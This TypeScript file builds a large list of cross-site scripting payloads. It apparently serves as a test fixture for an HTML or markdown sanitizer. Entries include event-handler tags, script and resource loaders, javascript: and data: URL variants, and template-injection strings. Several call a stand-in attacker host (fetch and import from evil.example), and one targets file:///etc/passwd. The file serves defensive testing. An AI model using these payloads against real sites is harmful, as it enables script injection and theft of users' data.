/**
 * What an attacker would say, call themselves, or call a file: made systematically, so that no combination is forgotten.
 * Each tries to open a dialog, or to ask something of another host.
 */

const ACTS = ['alert(1)', "fetch('https://evil.example/')", 'import(`//evil.example/x.js`)']
const ELSEWHERE = 'https://evil.example/x'

/** Elements that run a script by an event that needs nobody's help. */
const EVENTS: [tag: string, event: string, more: string][] = [
  ['img', 'onerror', 'src=x'], ['image', 'onerror', 'href=x'], ['svg', 'onload', ''], ['body', 'onload', ''], ['body', 'onpageshow', ''],
  ['iframe', 'onload', ''], ['input', 'onfocus', 'autofocus'], ['select', 'onfocus', 'autofocus'], ['textarea', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'], ['video', 'onerror', 'src=x'], ['audio', 'onerror', 'src=x'], ['object', 'onerror', 'data=x'], ['embed', 'onload', 'src=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'], ['style', 'onload', ''], ['marquee', 'onstart', ''], ['meter', 'onmouseover', ''],
  ['div', 'onanimationstart', 'style="animation:rise 1s"'], ['p', 'onpointerenter', ''], ['button', 'onfocus', 'autofocus popover'], ['script', 'onerror', 'src=x'],
]
const QUOTES: ((tag: string, event: string, more: string, act: string) => string)[] = [
  (tag, event, more, act) => `<${tag} ${more} ${event}=${act}>`,
  (tag, event, more, act) => `<${tag} ${more} ${event}="${act}">`,
  (tag, event, more, act) => `<${tag}/${more.replaceAll(' ', '/')}/${event}='${act}'/>`,
  (tag, event, more, act) => `<${tag.toUpperCase()} ${more} ${event.toUpperCase()} = \`${act}\`>`,
  (tag, event, more, act) => `"><${tag} ${more} ${event}=${act}>`,
  (tag, event, more, act) => `'-->]]></title></textarea></style></script><${tag}\n${more}\n${event}\t=\t"${act}">`,
]

/** Elements that load or run without an event. */
const ELEMENTS = [
  ...ACTS.map((act) => `<script>${act}</script>`),
  ...ACTS.map((act) => `<svg><script>${act}</script></svg>`),
  ...ACTS.map((act) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`),
  ...ACTS.map((act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`),
  ...ACTS.map((act) => `<template><s id="</template><img src=x onerror=${act}>">`),
  `<script src=${ELSEWHERE}></script>`, `<img src=${ELSEWHERE}>`, `<img srcset="${ELSEWHERE} 2x">`, `<iframe src=${ELSEWHERE}></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', `<link rel=stylesheet href=${ELSEWHERE}>`, `<link rel=prefetch href=${ELSEWHERE}>`,
  `<link rel=dns-prefetch href=//evil.example>`, `<style>@import '${ELSEWHERE}';</style>`, `<style>*{background:url(${ELSEWHERE})}</style>`,
  `<p style="background:url(${ELSEWHERE})">`, `<base href=${ELSEWHERE}>`, `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action=${ELSEWHERE}><button autofocus>`, `<object data=${ELSEWHERE}>`, `<embed src=${ELSEWHERE}>`, `<video poster=${ELSEWHERE}>`,
  `<audio src=${ELSEWHERE} autoplay>`, `<svg><use href="${ELSEWHERE}#x"/></svg>`, `<svg><image href="${ELSEWHERE}"/></svg>`, `<a ping=${ELSEWHERE} href=#>x</a>`,
  `<input type=image src=${ELSEWHERE}>`, `<track src=${ELSEWHERE}>`, `<body background=${ELSEWHERE}>`, `<table background=${ELSEWHERE}>`, '<plaintext>', '<xmp>', '<!--', '<![CDATA[', '<?xml ?>',
]

/** Addresses that a link must not have. */
const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)', ' javascript:alert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', 'javascript%3Aalert(1)',
  'javascript://example.org/%0aalert(1)', 'javascript:/*--></title>*/alert(1)', 'vbscript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1', 'file:///etc/passwd', 'filesystem:https://evil.example/x', 'about:blank', 'view-source:javascript:alert(1)',
  'jar:https://evil.example!/', 'feed:javascript:alert(1)', 'intent:alert(1)', 'javascript\u2028:alert(1)', '\u202ejavascript:alert(1)', 'x:expression(alert(1))',
]
const LINKS: ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![picture](${address})`,
  (address) => `[a]: ${address}\n[a]`,
  (address) => `[**x** \`y\`](${address} "a title")`,
]

/** Other languages than HTML, and seams between markup and HTML. */
const SEAMS = [
  "{{constructor.constructor('alert(1)')()}}", '{{alert(1)}}', '${alert(1)}', '<%= alert(1) %>', '#{alert(1)}', '@{alert(1)}', '[[alert(1)]]', '{%raw%}alert(1)',
  '`<img src=x onerror=alert(1)>`', '``` " onload=alert(1)\nx\n```', '```<img src=x onerror=alert(1)>\nx\n```', '```js"><script>alert(1)</script>\nx\n```',
  '[x](https://example.org/"onmouseover="alert(1))', "[x](https://example.org 'onmouseover=alert(1)')", '[x](https://example.org/\\"><img src=x onerror=alert(1)>)',
  '**<b onmouseover=alert(1)>x</b>**', '> <img src=x onerror=alert(1)>', '- <svg onload=alert(1)>', '1. <svg onload=alert(1)>', '| <svg onload=alert(1)> |\n|---|',
  '# <svg onload=alert(1)>', '<div>\n\n**x**\n\n<script>alert(1)</script></div>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;',
  '\\<img src=x onerror=alert(1)\\>', '\u0000<img src=x onerror=alert(1)>', '\ufeff<script>alert(1)</script>', '＜img src=x onerror=alert(1)＞', '<\u200bscript>alert(1)</script>',
  '__proto__', 'constructor', 'toString', '[object Object]', 'undefined', '\u202e<gpj.x=crs gmi>', 'https://evil.example\u202e/gnp.x', 'mailto:a@b.c?body=<script>alert(1)</script>',
]

export const PAYLOADS: readonly string[] = [
  ...EVENTS.flatMap(([tag, event, more], n) => QUOTES.map((quoted, q) => quoted(tag, event, more, ACTS[(n + q) % ACTS.length]!))),
  ...ELEMENTS,
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...EVENTS.map(([tag, event, more]) => `**a** <${tag} ${more} ${event}=alert(1)> \`b\` [c](https://example.org)`),
  ...EVENTS.map(([tag, event, more]) => `\`\`\`html\n<${tag} ${more} ${event}=alert(1)>\n\`\`\``),
  ...EVENTS.map(([tag, event, more]) => `&lt;${tag} ${more} ${event}=alert(1)&gt;`),
  ...EVENTS.map(([tag, event, more]) => `[<${tag} ${more} ${event}=alert(1)>](https://example.org/ "<${tag} ${event}=alert(1)>")`),
  ...EVENTS.map(([tag, event, more]) => `https://example.org/"'><${tag}/${more.replaceAll(' ', '/')}/${event}=alert(1)>`),
  ...SEAMS,
]
